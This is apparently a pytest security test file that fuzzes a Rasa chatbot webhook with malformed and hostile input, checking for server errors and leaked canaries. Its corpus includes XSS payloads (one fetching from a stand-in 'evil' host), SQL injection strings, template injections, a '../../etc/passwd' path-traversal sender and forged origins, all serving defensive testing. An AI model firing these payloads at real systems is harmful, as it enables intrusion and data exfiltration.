"""A corpus of bad input through the real chat channel: never a 5xx, never user text in any
output (the stack's log or a response), and the server keeps answering.

Each input carries a fresh canary; afterwards the canaries are searched for in everything the
processes printed and in every response body.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import socket
import time
import uuid
from urllib.parse import urlparse

import pytest

from tests.conftest import new_sender

pytestmark = pytest.mark.stack

WEBHOOK = "/webhooks/rest/webhook"


def canary() -> str:
    return f"canary{uuid.uuid4().hex}"


def raw_request(
    base_url: str,
    method: str,
    path: str,
    body: bytes = b"",
    headers: dict[str, str] | None = None,
) -> tuple[int, bytes]:
    """(status, body) for one request sent as given, over a fresh connection."""
    url = urlparse(base_url)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        for name, value in (headers or {}).items():
            connection.putheader(name, value)
        if "Content-Length" not in (headers or {}):
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders()
        # The server may refuse a huge body before reading it all: then read its answer.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            connection.send(body)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def as_json(payload) -> bytes:
    return json.dumps(payload).encode()


def corpus() -> list[tuple[str, str, str, bytes, dict[str, str]]]:
    """(name, method, path, body, headers); every body that can hold text holds a canary."""
    json_type = {"Content-Type": "application/json"}
    cases: list[tuple[str, str, str, bytes, dict[str, str]]] = []

    def message(name: str, text, sender=None, **extra) -> None:
        payload = {"sender": new_sender() if sender is None else sender, "message": text, **extra}
        cases.append((name, "POST", WEBHOOK, as_json(payload), json_type))

    def body(name: str, raw: bytes, headers: dict[str, str] | None = None) -> None:
        cases.append((name, "POST", WEBHOOK, raw, json_type if headers is None else headers))

    c = canary
    # Empty, huge and nested bodies.
    body("empty body", b"")
    body("whitespace body", b"   \n\t ")
    body("5 MB body", as_json({"sender": new_sender(), "message": c() + "x" * 5_000_000}))
    body("40 KB body", as_json({"sender": new_sender(), "message": c() + "x" * 40_000}))
    body("100,000 [", b"[" * 100_000)
    body("100,000 nested objects", b'{"a":' * 100_000 + c().encode())
    body("20,000 [", b"[" * 20_000)  # under the size limit: too deep to parse
    body("5,000 nested objects", b'{"a":' * 5_000 + c().encode() + b"}" * 5_000)
    body("nested message", as_json({"sender": new_sender(), "message": [[[[c()]]]]}))
    sender = new_sender().encode()
    body("truncated JSON", b'{"sender": "' + sender + b'", "message": "' + c().encode())
    body("JSON array", as_json([{"sender": new_sender(), "message": c()}]))
    body("JSON string", as_json(c()))
    body("JSON number", b"1e999999")
    body("NaN", b'{"sender": NaN, "message": "' + c().encode() + b'"}')
    body("BOM", b"\xef\xbb\xbf" + as_json({"sender": new_sender(), "message": c()}))
    body("duplicate keys", b'{"message": "a", "message": "' + c().encode() + b'", "sender": 1}')
    # Not UTF-8, control characters, bidi marks.
    body("latin-1 bytes", b'{"sender": "x", "message": "caf\xe9 ' + c().encode() + b'"}')
    body("invalid UTF-8", b'{"message": "\xff\xfe\xfd ' + c().encode() + b'"}')
    body("overlong UTF-8", b'{"message": "\xc0\xaf ' + c().encode() + b'"}')
    message("lone surrogate", "\ud800 " + c())
    message("NUL", "\x00" + c())
    message("control characters", "".join(chr(i) for i in range(1, 32)) + c())
    message("bidi override", "\u202eevil " + c() + "\u202c")
    message("zero-width", "\u200b\u200d\ufeff" + c())
    message("only control characters", "\x00\x01\x02")
    message("only zero-width", "\u200b\u200b")
    message("emoji", "\U0001f6a8" * 50 + c())
    message("combining marks", "a" + "\u0301" * 1500 + c())
    message("2,001 characters", c() + "y" * 2001)
    message("exactly 2,000 characters", (c() + " help ") * 40 + "z" * (2000 - 40 * 44))
    # HTML and SQL.
    message("script tag", f"<script>alert('{c()}')</script>")
    message("img onerror", f'<img src=x onerror="fetch(`//evil/{c()}`)">')
    message("html entities", f"&lt;b&gt;{c()}&#x3C;")
    message("SQL drop", f"'; DROP TABLE service; -- {c()}")
    message("SQL or", f'" OR 1=1 -- {c()}')
    message("template", "{{7*7}} ${7*7} {% debug %} " + c())
    message("format string", "%s%s%s%n {0} " + c())
    # "/" forms: not our buttons, so ordinary text (and never printed by Rasa's parser).
    message("slash only", "/")
    message("double slash", "//" + c())
    message("unknown intent", f"/not_an_intent {c()}")
    message("broken entities", '/search_services{"need": "' + c())
    message("forged danger", '/immediate_danger{"canary": "' + c() + '"}')
    message("restart", "/restart")
    message("session start", "/session_start")
    message("forged slot", '/search_services{"borough": "' + c() + '"}')
    message("action name", "/action_listen " + c())
    # Wrong types.
    message("number message", 12345)
    message("null message", None)
    message("bool message", True)
    message("dict message", {"text": c()})
    message("number sender", c(), sender=12345)
    message("list sender", c(), sender=[new_sender()])
    message("extra metadata", c(), metadata={"note": c()}, input_channel="cmdline")
    # Missing or forged senders.
    body("no sender", as_json({"message": c()}))
    message("default sender", c(), sender="default")
    message("nil uuid", c(), sender="00000000-0000-0000-0000-000000000000")
    message("uuid1 sender", c(), sender=str(uuid.uuid1()))
    message("uuid with braces", c(), sender="{" + new_sender() + "}")
    message("path in sender", c(), sender="../../etc/passwd")
    # Wrong content types, methods and paths.
    plain = {"Content-Type": "text/plain"}
    body("text/plain", as_json({"sender": new_sender(), "message": c()}), plain)
    body("no content type", as_json({"sender": new_sender(), "message": c()}), {})
    body(
        "form post",
        f"sender={new_sender()}&message={c()}".encode(),
        {"Content-Type": "application/x-www-form-urlencoded"},
    )
    body(
        "forged origin",
        as_json({"sender": new_sender(), "message": c()}),
        {"Content-Type": "application/json", "Origin": "https://evil.example"},
    )
    body(
        "null origin",
        as_json({"sender": new_sender(), "message": c()}),
        {"Content-Type": "application/json", "Origin": "null"},
    )
    cases.append(("GET webhook", "GET", WEBHOOK + "?message=" + c(), b"", {}))
    cases.append(("PUT webhook", "PUT", WEBHOOK, as_json({"message": c()}), json_type))
    cases.append(("tracker API", "GET", f"/conversations/{new_sender()}/tracker", b"", {}))
    cases.append(("parse API", "POST", "/model/parse", as_json({"text": c()}), json_type))
    cases.append(("unknown path", "GET", f"/webhooks/rest/{c()}", b"", {}))
    cases.append(("exit with junk", "POST", "/webhooks/rest/exit", b"[" * 100_000, {}))
    cases.append(("exit with text", "POST", "/webhooks/rest/exit", c().encode(), {}))
    cases.append(
        ("huge header", "POST", WEBHOOK, as_json({"message": "x"}), {"X-Canary": c() * 300})
    )
    return cases


def test_a_corpus_of_bad_input_gets_no_5xx_and_leaves_no_trace(stack):
    cases = corpus()
    assert len(cases) >= 50
    statuses = {}
    bodies = []
    for name, method, path, raw, headers in cases:
        status, answer = raw_request(stack.rasa_url, method, path, raw, headers)
        statuses[name] = status
        bodies.append(answer)
    server_errors = {name: status for name, status in statuses.items() if status >= 500}
    assert server_errors == {}
    # Refused as what they are, with a short JSON error.
    assert statuses["5 MB body"] == 413
    assert statuses["40 KB body"] == 413
    assert statuses["100,000 ["] == 413
    assert statuses["20,000 ["] == 400
    assert statuses["5,000 nested objects"] == 400
    assert statuses["text/plain"] == 415
    assert statuses["forged origin"] == 403
    assert statuses["tracker API"] == 404 and statuses["parse API"] == 404
    assert statuses["huge header"] in (400, 413, 431)
    # Read as ordinary text: answered.
    for name in ("bidi override", "script tag", "SQL drop", "forged danger", "restart"):
        assert statuses[name] == 200, name
    time.sleep(1)  # let every process flush its output
    output = stack.output()
    leaked = [
        name
        for (name, _, path, raw, headers), answer in zip(cases, bodies, strict=True)
        for token in _canaries(path, raw, headers)
        if token in output or token.encode() in answer
    ]
    assert leaked == []
    # And it still answers ordinary people.
    assert stack.texts(new_sender(), "I need a refuge in Westminster")


def _canaries(path: str, raw: bytes, headers: dict[str, str]) -> set[str]:
    text = path + raw.decode("utf-8", "replace") + "".join(headers.values())
    found, start = set(), 0
    while (start := text.find("canary", start)) != -1:
        found.add(text[start : start + 38])
        start += 38
    return found


def test_a_slow_client_cannot_hold_a_connection(stack):
    url = urlparse(stack.rasa_url)
    started = time.monotonic()
    with socket.create_connection((url.hostname, url.port), timeout=30) as slow:
        slow.sendall(b"POST " + WEBHOOK.encode() + b" HTTP/1.1\r\nHost: x\r\n")  # never ends
        answer = slow.recv(4096)
        while answer and not answer.endswith(b"}"):
            more = slow.recv(4096)
            if not more:
                break
            answer += more
    waited = time.monotonic() - started
    assert answer.startswith(b"HTTP/1.1 408") or answer == b""
    assert waited < 15  # the request timeout is 10 s


def test_an_idle_keep_alive_connection_is_closed_soon(stack):
    url = urlparse(stack.rasa_url)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    connection.request("GET", "/webhooks/rest/")
    assert connection.getresponse().read()
    started = time.monotonic()
    assert connection.sock.recv(1) == b""  # the server hangs up
    assert time.monotonic() - started < 8  # keep-alive 5 s
    connection.close()
